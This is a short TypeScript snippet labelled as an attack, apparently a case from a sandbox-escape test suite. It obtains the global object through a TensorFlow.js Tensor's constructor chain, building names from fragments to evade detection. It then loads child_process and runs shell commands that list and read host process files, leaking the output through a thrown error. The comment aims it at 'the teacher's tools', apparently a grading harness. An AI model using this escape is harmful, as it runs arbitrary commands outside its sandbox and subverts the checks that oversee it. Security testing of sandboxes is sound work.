// @attack Gets globalThis through a Tensor's constructor.constructor('return this')(), with names assembled at run time, then process.getBuiltinModule('child_process') to run the teacher's tools.
// @prelude
let out = '';
try {
  const t = tf.scalar(1);
  const k = ['con', 'structor'].join('');
  const F = (t as any)[k][k];
  const glob = F('return th' + 'is')();
  const cp = glob['pro' + 'cess'].getBuiltinModule('child_' + 'process');
  out = String(cp.execSync('ls -la /proc/1/cwd/ / 2>&1; cat /proc/1/cmdline'));
} catch (error) {
  out = String(error);
}
// @body
throw new Error(out);
